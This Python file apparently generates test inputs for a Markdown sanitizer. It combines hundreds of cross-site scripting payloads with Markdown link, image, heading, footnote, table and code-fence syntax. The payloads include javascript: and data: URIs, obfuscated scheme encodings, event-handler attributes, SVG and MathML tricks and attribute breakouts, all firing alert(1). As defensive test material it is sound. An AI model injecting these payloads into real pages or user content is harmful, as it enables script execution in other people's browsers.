"""Markdown that tries to run something: each document is an entry that a careless or hostile author could write.

The payload is always `alert(1)`, in the many ways in which it can be put where a browser would run it. Nothing here is
copied from a list of others; the families are the places in which Markdown and HTML meet.
"""

# Destinations that run something, or that browsers have once taken for such.
DESTINATIONS = [
    "javascript:alert(1)", "JAVASCRIPT:alert(1)", "JaVaScRiPt:alert(1)", "javascript&colon;alert(1)",
    "javascript&#58;alert(1)", "javascript&#x3A;alert(1)", "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)",
    "java&Tab;script:alert(1)", "java&NewLine;script:alert(1)", "java&#10;script:alert(1)", "java&#9;script:alert(1)",
    "java&#13;script:alert(1)", "&#1;javascript:alert(1)", "&#32;javascript:alert(1)", "&#0;javascript:alert(1)",
    "&#x1F;javascript:alert(1)", "jav\\ascript:alert(1)", "javascript\\:alert(1)", "j&shy;avascript:alert(1)",
    "&#xFEFF;javascript:alert(1)", "&ZeroWidthSpace;javascript:alert(1)", "javascript://%0Aalert(1)", "javascript:%61lert(1)",
    "vbscript:alert(1)", "VBScript&colon;alert(1)", "livescript:alert(1)", "mocha:alert(1)",
    "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg/onload=alert(1)>", "data:image/svg+xml;base64,PHN2Zy9vbmxvYWQ9YWxlcnQoMSk+",
    "data:application/xhtml+xml,alert(1)", "data&colon;text/html,alert(1)", "DATA:text/html,alert(1)", "data:,alert(1)",
    "blob:https://a.example/alert(1)", "filesystem:https://a.example/alert(1)", "file:///alert(1)", "about:alert(1)",
    "view-source:javascript:alert(1)", "feed:javascript:alert(1)", "jar:javascript:alert(1)!/", "x-javascript:alert(1)",
]  # fmt: skip

# Where Markdown takes a destination.
PLACES = [
    "[글]({})", "[글](<{}>)", "[글][가]\n\n[가]: {}", "![그림]({})", "![그림](<{}> \"설명\")", "<{}>",
]  # fmt: skip

HANDLERS = ["onclick", "onerror", "onload", "onmouseover", "onfocus", "onbegin", "ontoggle", "onanimationstart", "ONPOINTERDOWN"]

# Elements that run, load, send or change the page by themselves.
ELEMENTS = [
    "<script>alert(1)</script>", "<SCRIPT>alert(1)</SCRIPT>", "<script src=//a.example/x.js></script>", "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script>alert(1)", "</script><script>alert(1)</script>",
    "<<script>alert(1)//<</script>", "<script type=module>import '//a.example/x.js'</script>", "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)>", "<svg/onload=alert(1)>", "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>", "<svg><use href=data:image/svg+xml,alert(1)#x /></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>", "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math href=javascript:alert(1)>x</math>", "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=//a.example></iframe>", "<object data=javascript:alert(1)></object>", "<embed src=javascript:alert(1)>",
    "<embed src=data:text/html,alert(1) type=text/html>", "<applet code=alert(1)></applet>", "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    "<base href=javascript:alert(1)//>", "<link rel=stylesheet href=javascript:alert(1)>", "<link rel=import href=//a.example>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<style>@import 'javascript:alert(1)';</style>",
    "<style>*{background:url(javascript:alert(1))}</style>", "<style></style><img src=x onerror=alert(1)>", "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>", "<input type=image src=x onerror=alert(1)>", "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)><option>x</select>", "<textarea autofocus onfocus=alert(1)>", "<keygen autofocus onfocus=alert(1)>",
    "<video src=x onerror=alert(1)></video>", "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)></audio>",
    "<video poster=javascript:alert(1)></video>", "<img src=x onerror=alert(1)>", "<IMG SRC=javascript:alert(1)>", "<image src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//", "<img src='x'onerror='alert(1)'>", "<img\tsrc=x\tonerror=alert(1)>", "<img/src=x/onerror=alert(1)>",
    "<img src=`x`onerror=alert(1)>", "<img src=x srcset='x,javascript:alert(1)'>", "<picture><source srcset=javascript:alert(1)><img></picture>",
    "<table background=javascript:alert(1)><tr><td>x</table>", "<td background=javascript:alert(1)>x</td>", "<body onload=alert(1)>", "<body background=javascript:alert(1)>",
    "<html onmouseover=alert(1)>", "<head><script>alert(1)</script></head>", "<title><img src=x onerror=alert(1)></title>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed>", "<xmp><p title='</xmp><svg/onload=alert(1)>'></xmp>", "<plaintext><img src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template>", "<slot onslotchange=alert(1)></slot>", "<portal src=javascript:alert(1)>", "<marquee onstart=alert(1)>x</marquee>",
    "<isindex action=javascript:alert(1) type=image>", "<bgsound src=javascript:alert(1)>", "<layer src=javascript:alert(1)></layer>", "<xml onreadystatechange=alert(1)></xml>",
    "<dialog open onclose=alert(1)>x</dialog>", "<area href=javascript:alert(1)>", "<map><area href=javascript:alert(1)></map>", "<x onclick=alert(1) tabindex=0>x</x>",
    "<custom-element onclick=alert(1)>x</custom-element>", "<p is=x-y onclick=alert(1)>x</p>", "<?xml-stylesheet href='javascript:alert(1)'?>", "<?php alert(1) ?>",
    "<!DOCTYPE html [<!ENTITY x 'alert(1)'>]>", "<![CDATA[<script>alert(1)</script>]]>", "<!ELEMENT x (alert(1))>", "<!--><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script> -->", "<!-- <!-- --><script>alert(1)</script>", "</p><script>alert(1)</script>", "</div></article></main><script>alert(1)</script>",
]  # fmt: skip

# Elements of the list that may pass, with what must not pass with them.
ALLOWED = [
    "<a href=\"javascript:alert(1)\">글</a>", "<a href=javascript&colon;alert(1)>글</a>", "<a href=' javascript:alert(1)'>글</a>", "<a href='java\tscript:alert(1)'>글</a>",
    "<a href='&#106;avascript:alert(1)'>글</a>", "<a href=\"x\" href=\"javascript:alert(1)\">글</a>", "<a HREF=\"JaVaScRiPt:alert(1)\">글</a>", "<a href=data:text/html,alert(1)>글</a>",
    "<a href=x style=\"background:url(javascript:alert(1))\">글</a>", "<a href=x ping=javascript:alert(1)>글</a>", "<a href=x target=_blank onclick=alert(1)>글</a>", "<a href='x\"onclick=\"alert(1)'>글</a>",
    "<a href=x\"onmouseover=alert(1)//>글</a>", "<a href=\"x\"onmouseover=alert(1)>글</a>", "<a title='\"><script>alert(1)</script>' href=x>글</a>", "<a href=x title=\"&quot;><img src=x onerror=alert(1)>\">글</a>",
    "<img src=\"javascript:alert(1)\">", "<img src=x alt='\"><script>alert(1)</script>'>", "<img src=x alt=\"`onerror=alert(1)\">", "<img src=x title='&quot; onerror=&quot;alert(1)'>",
    "<img src=x width='1\" onerror=\"alert(1)'>", "<img src=data:image/svg+xml,<svg/onload=alert(1)>>", "<img src=x lowsrc=javascript:alert(1)>", "<img src=x dynsrc=javascript:alert(1) longdesc=javascript:alert(1)>",
    "<details open ontoggle=alert(1)><summary>글</summary></details>", "<details><summary onclick=alert(1)>글</summary></details>", "<kbd onclick=alert(1)>K</kbd>", "<kbd/onclick=alert(1)>K</kbd>",
    "<mark style=animation-name:x onanimationstart=alert(1)>글</mark>", "<ruby onclick=alert(1)>漢<rt onclick=alert(1)>かん</rt></ruby>", "<sub id='\"><script>alert(1)</script>'>2</sub>", "<sup class='\"onclick=\"alert(1)'>2</sup>",
    "<div id=x tabindex=1 onfocus=alert(1)>글</div>", "<div style=\"width:expression(alert(1))\">글</div>", "<div style=\"-moz-binding:url(//a.example)\">글</div>", "<div contenteditable onblur=alert(1)>글</div>",
    "<span data-x='<script>alert(1)</script>' onclick=alert(1)>글</span>", "<span aria-label='\"><script>alert(1)</script>'>글</span>", "<p align='left\" onclick=\"alert(1)'>글</p>", "<p\nonclick\n=\nalert(1)\n>글</p>",
    "<q cite=javascript:alert(1)>글</q>", "<blockquote cite=javascript:alert(1)>글</blockquote>", "<del cite=javascript:alert(1) datetime='\" onclick=\"alert(1)'>글</del>", "<ins onclick=alert(1)>글</ins>",
    "<ol start='1\" onclick=\"alert(1)'><li value='x\" onclick=\"alert(1)'>글</ol>", "<table onclick=alert(1)><tr onclick=alert(1)><td onclick=alert(1) colspan='2\" x=\"'>글</table>", "<th scope='col\" onclick=\"alert(1)'>글</th>", "<time datetime='\"><script>alert(1)</script>'>글</time>",
    "<bdo dir='rtl\" onclick=\"alert(1)'>글</bdo>", "<br onclick=alert(1)>", "<hr onclick=alert(1)>", "<wbr/onclick=alert(1)>", "<col span='1\" onclick=\"alert(1)'>", "<figure onclick=alert(1)><figcaption onclick=alert(1)>글</figcaption></figure>",
    "<h1 onclick=alert(1)>글</h1>", "<section onclick=alert(1)><article onclick=alert(1)>글</article></section>", "<abbr title='\"onclick=alert(1) x=\"'>글</abbr>", "<data value='\" onclick=\"alert(1)'>글</data>",
]  # fmt: skip

# Markdown that could break out of what it is put into: titles, alternative text, info strings, ids,
# labels.
BREAKOUTS = [
    "[글](x \"\\\"onclick=alert(1) x=\\\"\")", "[글](x '\"><script>alert(1)</script>')", "![\"onerror=alert(1) x=\"](x.png)", "![<img src=x onerror=alert(1)>](x.png)",
    "![](x.png \"\\\" onerror=\\\"alert(1)\")", "![그림](x.png \"</figcaption><script>alert(1)</script>\")", "[글](x\"onclick=\"alert(1))", "[글](<x\" onclick=\"alert(1)>)",
    "![글](<x\" onerror=\"alert(1)>)", "```\"><script>alert(1)</script>\n코드\n```", "```swift\"onclick=\"alert(1)\n코드\n```", "~~~</code></pre><script>alert(1)</script>\n코드\n~~~",
    "```\n</code></pre><script>alert(1)</script>\n```", "    </code></pre><script>alert(1)</script>", "`</code><script>alert(1)</script>`", "# \" onclick=\"alert(1)",
    "# <script>alert(1)</script>", "# ![x](x.png \"\\\"><script>alert(1)</script>\")", "[^\"><script>alert(1)</script>]\n\n[^\"><script>alert(1)</script>]: 각주", "글[^a]\n\n[^a]: <script>alert(1)</script>",
    "글[^a]\n\n[^a]: [x](javascript:alert(1))", "| <script>alert(1)</script> | b |\n|---|---|\n| \" onclick=alert(1) | `</td><script>alert(1)</script>` |", "- [x] <script>alert(1)</script>", "> [!NOTE] <script>alert(1)</script>\n> 글",
    "> [!\"><script>alert(1)</script>]\n> 글", "[[x|<script>alert(1)</script>]]", "[[\"><script>alert(1)</script>]]", "[[javascript:alert(1)]]", "![[javascript:alert(1)]]", "![[x.png|\"onerror=alert(1)]]",
    "https://a.example/\"onclick=\"alert(1)", "https://a.example/'onclick='alert(1)", "https://a.example/<script>alert(1)</script>", "www.a.example\"><script>alert(1)</script>", "a\"onclick=alert(1)@a.example",
    "<https://a.example/\"onclick=\"alert(1)>", "<a@a.example\"onclick=alert(1)>", "[글](https://a.example/%22onclick=%22alert(1))", "[글](https://a.example/&quot;onclick=&quot;alert(1))", "[글](https:javascript:alert(1))",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "\\<script>alert(1)\\</script>", "<scr\u0000ipt>alert(1)</scr\u0000ipt>", "<script\u200b>alert(1)</script>",
    "＜script＞alert(1)＜/script＞", "<\u017fcript>alert(1)</\u017fcript>", "\"\u0301onclick=alert(1)", "[글](x \"\u0301\" onclick=alert(1))", "<img src=x\u0301 onerror\u0301=alert(1) onerror=alert(1)>",
    "*<img src=x* onerror=alert(1)>", "**<script>**alert(1)**</script>**", "~~<svg~~ onload=alert(1)>", "[<img src=x onerror=alert(1)>](x)", "[![<script>](x)](javascript:alert(1))", "[a[b](javascript:alert(1))](x)",
    "<details><summary><script>alert(1)</script></summary>\n\n<script>alert(1)</script>\n\n</details>", "<kbd><script>alert(1)</script></kbd>", "<kbd>*<svg/onload=alert(1)>*</kbd>", "<ruby>漢<rt><img src=x onerror=alert(1)></rt></ruby>",
    "%%<script>%%alert(1)%%</script>%%", "<scr<!-- x -->ipt>alert(1)</script>", "<scr%% x %%ipt>alert(1)</script>", "<img src=x on<!-- x -->error=alert(1)>", "[글](java%% x %%script:alert(1))", "[글](java<!-- x -->script:alert(1))",
    "{{ '<script>alert(1)</script>' }}", "{% raw %}<script>alert(1)</script>{% endraw %}", "[글]({% post_url \"><script>alert(1)</script> %})", "[글]({{ \"javascript:alert(1)\" }})", "$<script>alert(1)</script>$",
]  # fmt: skip


def documents():
    """Every document's text; each is one entry."""
    for destination in DESTINATIONS:
        for place in PLACES:
            yield place.format(destination)
    for handler in HANDLERS:
        yield f"글 <b {handler}=alert(1)>굵게</b>"
        yield f"<div {handler}=\"alert(1)\">\n글\n</div>"
        yield f"<a href=\"x\"\n{handler}='alert(1)'>글</a>"
    yield from ELEMENTS
    # In a paragraph, where the rules of HTML blocks do not hold.
    yield from (f"글 {element} 글" for element in ELEMENTS)
    yield from ALLOWED
    yield from (f"글 {element} 글" for element in ALLOWED)
    yield from BREAKOUTS
